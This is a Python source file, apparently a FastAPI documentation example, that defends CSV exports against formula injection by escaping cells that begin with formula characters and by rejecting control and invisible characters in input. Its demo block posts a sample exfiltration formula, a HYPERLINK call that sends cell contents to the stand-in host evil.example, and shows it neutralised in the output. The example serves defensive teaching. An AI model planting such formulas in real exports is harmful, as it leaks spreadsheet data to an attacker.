"""The fix: a CSV response class that keeps any cell from starting a formula."""

# --8<-- [start:app]
import csv
import io
from collections import deque
from typing import Any

from fastapi import FastAPI, Query
from fastapi.responses import Response
from pydantic import BaseModel

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\0")


def inert(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class CSVResponse(Response):
    media_type = "text/csv"
    columns: tuple[str, ...] = ()

    def render(self, content: Any) -> bytes:
        out = io.StringIO()
        writer = csv.DictWriter(
            out, fieldnames=self.columns, restval="", extrasaction="ignore"
        )
        writer.writeheader()
        for row in content:
            writer.writerow({key: inert(value) for key, value in row.items()})
        return out.getvalue().encode(self.charset)


class Contact(BaseModel):
    name: str
    city: str


class ContactsCSV(CSVResponse):
    columns = tuple(Contact.model_fields)


# Control characters (C0, DEL, C1), then invisible ones: soft hyphen, zero-width
# space and joiners, direction marks and overrides, word joiners, the BOM.
INVISIBLE = r"\x00-\x1f\x7f-\x9f\xad\u200b-\u200f\u202a-\u202e\u2060-\u2064\ufeff"
# Nothing invisible and no whitespace at the start; no control character,
# line or paragraph separator anywhere.
PLAIN_TEXT = rf"^[^\s{INVISIBLE}][^\x00-\x1f\x7f-\x9f\u2028\u2029]*$"

app = FastAPI()

CONTACTS = deque([Contact(name="Ada", city="London")], maxlen=50)


@app.post("/contacts", status_code=201)
def add_contact(
    name: str = Query(max_length=100, pattern=PLAIN_TEXT),
    city: str = Query(max_length=100, pattern=PLAIN_TEXT),
) -> Contact:
    contact = Contact(name=name, city=city)
    CONTACTS.append(contact)
    return contact


@app.get("/contacts.csv", response_class=ContactsCSV)
def export_contacts(response: Response) -> list[Contact]:
    response.headers["Content-Disposition"] = 'attachment; filename="contacts.csv"'
    return list(CONTACTS)


# --8<-- [end:app]


if __name__ == "__main__":
    # --8<-- [start:try_it]
    from fastapi.testclient import TestClient

    client = TestClient(app)

    evil = {"name": '=HYPERLINK("http://evil.example/?"&A1,"Details")', "city": "Oslo"}
    client.post("/contacts", params=evil)
    export = client.get("/contacts.csv")
    print(export.status_code, export.headers["content-type"])
    #> 200 text/csv; charset=utf-8
    print(export.headers["content-disposition"])
    #> attachment; filename="contacts.csv"
    for line in export.text.splitlines():
        print(line)
        #> name,city
        #> Ada,London
        #> "'=HYPERLINK(""http://evil.example/?""&A1,""Details"")",Oslo

    hidden = client.post("/contacts", params={"name": "\0=1+1", "city": "Oslo"})
    print(hidden.status_code, hidden.json()["detail"][0]["type"])
    #> 422 string_pattern_mismatch

    print(ContactsCSV([]).body)
    #> b'name,city\r\n'

    tricky = {"name": 'Lee, "Sam"\nJr.', "city": "a,b"}
    rows = list(csv.DictReader(io.StringIO(ContactsCSV([tricky]).body.decode())))
    print(rows)
    #> [{'name': 'Lee, "Sam"\nJr.', 'city': 'a,b'}]
    # --8<-- [end:try_it]
